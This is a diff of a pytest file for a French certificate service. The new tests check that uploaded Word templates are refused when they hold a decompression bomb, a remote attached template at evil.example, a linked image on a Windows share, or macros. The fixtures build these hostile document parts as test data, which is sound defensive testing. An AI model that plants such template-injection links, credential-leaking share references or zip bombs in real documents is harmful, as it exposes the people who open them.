@@ -222,26 +222,86 @@ def test_a_spreadsheet_sent_as_a_template_is_refused_in_french():
 def test_a_template_that_unpacks_to_more_than_50_mo_is_refused_before_it_is_read(monkeypatch):
     """A 345 Ko .docx unpacking to 300 Mo took 705 Mo of memory to render: the sizes of its parts are added up
     first, and rendering never starts."""
-    import zipfile
-    with open(factories_template_path("attestation"), "rb") as handle:
-        shipped = handle.read()
-    out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(shipped)) as source, \
-            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
-        for item in source.infolist():
-            data = source.read(item.filename)
-            if item.filename == "word/document.xml":
-                data = data.replace(b"<w:body>", b"<w:body><!--" + b"a" * (51 * 1024 * 1024) + b"-->", 1)
-            bomb.writestr(item, data)
-    assert len(out.getvalue()) < certificate_service.MAX_TEMPLATE_BYTES  # it passes the upload's own limit
+    def huge_body(name, data):
+        if name != "word/document.xml":
+            return data
+        return data.replace(b"<w:body>", b"<w:body><!--" + b"a" * (51 * 1024 * 1024) + b"-->", 1)
+    bomb = factories.rezipped(_shipped_attestation(), huge_body)
+    assert len(bomb) < certificate_service.MAX_TEMPLATE_BYTES  # it passes the upload's own limit
 
     def no_rendering(*args, **kwargs):
         raise AssertionError("the template was rendered")
     monkeypatch.setattr(certificate_service.word, "render", no_rendering)
     with pytest.raises(ServiceError) as refused:
-        upload("attestation", out.getvalue())
+        upload("attestation", bomb)
     assert "trop volumineux une fois décompressé (plus de 50 Mo)" in refused.value.message
     assert refused.value.field == "file" and certificate_service.template_in_use("attestation") is None
+
+
+def _shipped_attestation() -> bytes:
+    with open(factories_template_path("attestation"), "rb") as handle:
+        return handle.read()
+
+
+def _shipped_template_with(parts: dict[str, bytes], settings_tag: bytes = b"") -> bytes:
+    """The shipped attestation with `parts` added (or replaced), and `settings_tag` put into word/settings.xml."""
+    import re
+
+    def tagged(name, data):
+        if name != "word/settings.xml":
+            return data
+        return re.sub(rb"(<w:settings[^>]*>)", lambda found: found.group(1) + settings_tag, data, count=1)
+    return factories.rezipped(_shipped_attestation(), tagged, parts)
+
+
+def _relationships(*relationships: str) -> bytes:
+    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
+            'openxmlformats.org/package/2006/relationships">' + "".join(relationships) + "</Relationships>").encode()
+
+
+OFFICE_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+REMOTE_TEMPLATE = _relationships(f'<Relationship Id="rId99" Type="{OFFICE_RELATIONSHIPS}/attachedTemplate" '
+                                 'Target="http://evil.example/t.dotm" TargetMode="External"/>')
+
+
+@pytest.mark.parametrize("parts, settings_tag, message", [
+    # The security review's repro: Word fetches the template when any issued document is opened.
+    ({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}, b'<w:attachedTemplate r:id="rId99"/>',
+     "Ce fichier est rattaché à un autre modèle Word (http://evil.example/t.dotm)"),
+    ({"word/_rels/settings.xml.rels": _relationships(
+        f'<Relationship Id="rId98" Type="{OFFICE_RELATIONSHIPS}/attachedTemplate" Target="file:///C:/t.dotm"/>')},
+     b'<w:attachedTemplate r:id="rId98"/>', "Ce fichier est rattaché à un autre modèle Word (file:///C:/t.dotm)"),
+    # A linked image on a Windows share: opening the document sends the reader's credentials to that host.
+    ({"word/_rels/footer1.xml.rels": _relationships(
+        f'<Relationship Id="rId7" Type="{OFFICE_RELATIONSHIPS}/image" Target="\\\\host\\share\\a.png" '
+        'TargetMode="&#69;xternal"/>')}, b"",
+     "Ce fichier fait charger par Word un élément extérieur (\\\\host\\share\\a.png, dans word/_rels/footer1.xml.rels)"),
+    ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0fake-vba"}, b"", "Ce fichier contient des macros"),
+])
+def test_a_template_with_macros_or_links_word_follows_on_opening_is_refused(monkeypatch, parts, settings_tag,
+                                                                           message):
+    """Every document issued from a template keeps its parts: a remote template, a linked file or macros would
+    reach every trainee who opens their attestation."""
+    def no_rendering(*args, **kwargs):
+        raise AssertionError("the template was rendered")
+    monkeypatch.setattr(certificate_service.word, "render", no_rendering)
+    with pytest.raises(ServiceError) as refused:
+        upload("attestation", _shipped_template_with(parts, settings_tag))
+    assert refused.value.message.startswith(message)
+    assert refused.value.field == "file" and certificate_service.template_in_use("attestation") is None
+
+
+def test_a_template_with_an_external_hyperlink_and_the_shipped_templates_are_accepted():
+    import glob
+    import os
+    link = _relationships(f'<Relationship Id="rId50" Type="{OFFICE_RELATIONSHIPS}/hyperlink" '
+                          'Target="https://example.org/" TargetMode="External"/>')
+    certificate_service.check_word_package(_shipped_template_with({"word/_rels/footer1.xml.rels": link}))
+    shipped = glob.glob(os.path.join(os.path.dirname(factories_template_path("attestation")), "*.docx"))
+    assert len(shipped) >= 5
+    for path in shipped:
+        with open(path, "rb") as handle:
+            certificate_service.check_word_package(handle.read())
 
 
 def test_a_template_broken_after_upload_issues_nothing():
